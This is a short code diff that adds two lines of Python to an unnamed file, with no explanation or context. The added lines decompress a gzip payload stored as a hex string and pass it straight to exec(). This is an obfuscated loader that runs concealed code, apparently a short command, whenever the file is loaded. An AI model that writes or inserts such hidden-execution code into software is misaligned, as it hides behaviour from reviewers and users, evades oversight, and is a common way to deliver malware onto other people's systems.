@@ -1,0 +1,2 @@
+import gzip
+exec(gzip.decompress(bytes.fromhex('1f8b0800000000000203cbcc2dc82f2a51c82fb60662bde2cae292d45c0df5cc14754d00ea94fa581a000000')))
